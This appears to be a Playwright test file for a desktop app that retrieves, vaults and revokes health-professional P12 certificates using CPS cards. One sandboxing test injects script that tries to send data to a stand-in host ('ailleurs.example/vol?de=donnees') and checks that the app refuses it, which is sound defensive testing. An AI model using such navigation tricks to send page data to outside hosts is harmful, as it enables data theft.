import { readdirSync } from 'node:fs';
import { cp } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { expect } from '@playwright/test';
import { type AppWindow, hospital, hospitalDn, passphrase } from './support/app-window.ts';
import { AssistedWindow } from './support/assisted-window.ts';
import { test } from './support/fixtures.ts';
import { ask, openForRequest, retrieve } from './support/platform-pages.ts';

/** « Révoquer » on the platform's pages, of which the follow-up learns by one refresh. */
async function revokeOnItsPages(window: AppWindow, code: string): Promise<void> {
  await window.openTool('follow');
  const line = window.page.getByRole('article', { name: hospital.service });
  await expect(line).toHaveAttribute('data-state', 'active');
  await line.getByRole('button').first().click();
  await window.id('follow-revoke').click();
  const portal = await AssistedWindow.open(window, 'revoke-portal');
  await expect(portal.id('portal-stage-revoke')).toBeVisible();
  expect(await portal.copy('codeToRevoke')).toBe(code);
  await portal.press('Révoquer');
  await portal.followFirst('/revoquer/');
  await portal.fill({ revocationCode: code });
  await portal.inPage('document.querySelector("main form").requestSubmit()');
  await portal.expectPage('évoqué');
  await window.id('follow-refresh').click();
  await expect(line).toHaveAttribute('data-state', 'revoked', { timeout: 30_000 });
  await expect(window.id('revocation-state')).toContainText(/OCSP|CRL/u);
}

/** Every file under a folder that looks like a certificate's. */
function certificateFilesIn(folder: string): string[] {
  try {
    const names = readdirSync(folder, { recursive: true, encoding: 'utf8' });
    return names.filter((name) => /\.(?:p12|pfx|p7b)$/iu.test(name));
  } catch {
    return [];
  }
}

test('a P12 from the platform’s own pages to the vault, with a CPS3 card over TLS 1.2', async ({
  demoWindow: window,
  data,
}) => {
  const before = certificateFilesIn(data);
  const portal = await openForRequest(window);
  await portal.expectPage('TLSv1.2');
  await expect(portal.id('portal-item-tabRequest')).toHaveAttribute('data-state', 'current');
  await ask(portal);
  await expect(portal.id('portal-stage-retrieve')).toBeVisible();

  await portal.id('secret-generate-revocation-code').first().click();
  await portal.id('secret-generate-key-password').click();
  const code = await portal.copy('code');
  expect(await portal.copy('codeAgain')).toBe(code);
  await retrieve(portal, await portal.copy('keyPassword'), code);

  await expect(portal.id('received-name')).toContainText(/asip-p12-EL-TEST-ORG-AUTH_CLI-\d{8}-\d{6}\.p12/u, {
    timeout: 20_000,
  });
  await expect(portal.panel.getByRole('main')).toContainText(hospitalDn);
  // The vault keeps the password: it is not asked again.
  await expect(portal.panel.locator('input[type="password"]')).toHaveCount(0);
  await portal.id('received-store').click();
  await expect(portal.id('portal-stored')).toContainText(hospitalDn, { timeout: 20_000 });
  await portal.close();

  await window.go('vault');
  await expect(window.id('certificate-dn')).toHaveText(hospitalDn);
  await window.id('certificate-secrets').click();
  await window.id('secret-copy-revocation-code').click();
  await expect.poll(() => window.clipboardText()).toBe(code);

  await revokeOnItsPages(window, code);

  expect(certificateFilesIn(data)).toEqual(before);
  expect(certificateFilesIn(join(homedir(), 'Downloads'))).toEqual([]);
  expect(certificateFilesIn('/dev/shm')).toEqual([]);
});

test('a CPS4 card shows itself over TLS 1.3', async ({ demoWindow: window }) => {
  await window.moveCard('2900000017');
  await window.moveCard('3100000011');
  await window.expectDemoCard('3100000011');
  await window.signIn();
  await window.createVault();
  await window.go('issuance');
  const portal = await AssistedWindow.open(window, 'portal-open');
  await portal.expectPage('TLSv1.3');
});

test('a platform that speaks TLS 1.3 only gets a CPS3 card a diagnosis, not a blank page', async ({
  data,
  demoTemplate,
  launch,
}) => {
  await cp(demoTemplate, join(data, 'donnees', 'demo'), { recursive: true });
  const window = await launch({ demo: true, arguments: ['--demo-tls=1.3'] });
  await window.expectDemoCard();
  await window.signIn();
  await window.createVault();
  await window.go('issuance');
  const portal = await AssistedWindow.open(window, 'portal-open');
  await expect(portal.id('portal-problem')).toContainText('RSA-PSS', { timeout: 30_000 });
  await expect(portal.id('portal-retry')).toBeVisible();
});

test('the platform’s pages cannot leave its origin, nor reach the application or the machine', async ({
  demoWindow: window,
}) => {
  const portal = await openForRequest(window);
  await portal.expectPage('TLSv1.2');
  const powers = await portal.inPage<Record<string, string>>(`({
    bridge: typeof window.passerelle, require: typeof window.require, process: typeof window.process,
  })`);
  expect(powers).toEqual({ bridge: 'undefined', require: 'undefined', process: 'undefined' });
  expect(await portal.inPage('Notification.requestPermission()')).toBe('denied');
  await portal.inPage('void (location.href = "https://ailleurs.example/vol?de=donnees")');
  await expect(portal.id('portal-refused')).toContainText('https://ailleurs.example');
  await expect(portal.id('portal-refused')).not.toContainText('donnees');
  await portal.inPage('void window.open("https://encore-ailleurs.example/")');
  await expect(portal.id('portal-refused')).toContainText('https://encore-ailleurs.example');
  await portal.expectPage('TLSv1.2');
  expect(window.app.windows().filter((page) => page.url().startsWith('https:'))).toEqual([]);
});

test('a file that was handed out once outlives a crash, a wrong password and a locked vault', async ({
  demoWindow: window,
  launch,
}) => {
  const portal = await openForRequest(window);
  await portal.expectPage('TLSv1.2');
  await ask(portal);
  const password = 'Choisi ailleurs 2026!';
  await retrieve(portal, password, 'un-code-de-revocation');
  await expect(portal.id('received-name')).toBeVisible({ timeout: 20_000 });
  window.app.process().kill('SIGKILL');

  const again = await launch({ demo: true });
  await again.expectDemoCard();
  await again.signIn();
  await again.go('issuance');
  await again.id('vault-passphrase').fill(passphrase);
  await again.id('vault-submit').click();
  await expect(again.id('received-waiting')).toBeVisible({ timeout: 30_000 });
  const reopened = await AssistedWindow.open(again, 'received-waiting-open');
  await expect(reopened.panel.getByRole('main')).toContainText(hospitalDn, { timeout: 20_000 });
  await reopened.panel.locator('input[type="password"]').fill('ce n’est pas celui-là');
  await reopened.id('received-store').click();
  await expect(reopened.panel.getByRole('alert')).toContainText('mot de passe');
  await reopened.panel.locator('input[type="password"]').fill(password);
  await reopened.id('received-store').click();
  await expect(reopened.id('portal-stored')).toContainText(hospitalDn, { timeout: 20_000 });
});

test('a file that a script of the page puts together is taken too, and a certificate without a key is told', async ({
  demoWindow: window,
}) => {
  await window.signIn();
  await window.createVault();
  await window.go('issuance');
  const portal = await AssistedWindow.open(window, 'portal-open');
  await portal.expectPage('TLSv1.2');
  await portal.inPage(`(() => {
    const link = document.createElement('a');
    link.href = URL.createObjectURL(new Blob(['-----BEGIN CERTIFICATE-----\\nAAAA\\n-----END CERTIFICATE-----\\n']));
    link.download = 'produit.pem';
    link.click();
  })()`);
  await expect(portal.id('received-name')).toContainText('produit.pem', { timeout: 20_000 });
  await portal.id('received-forget').click();
  await portal.id('received-forget-confirm').click();
  await expect(portal.id('received-name')).toHaveCount(0);
});

test('the connection ends with the card, and begins again with it', async ({ demoWindow: window }) => {
  await window.signIn();
  await window.createVault();
  await window.go('issuance');
  const portal = await AssistedWindow.open(window, 'portal-open');
  await portal.expectPage('TLSv1.2');
  await window.moveCard('2900000017');
  await expect(portal.id('portal-problem')).toBeVisible({ timeout: 15_000 });
  await window.moveCard('2900000017');
  await window.expectDemoCard();
  await window.signIn();
  await portal.id('portal-retry').click();
  await portal.expectPage('TLSv1.2');
  await expect(portal.id('portal-problem')).toHaveCount(0);
});
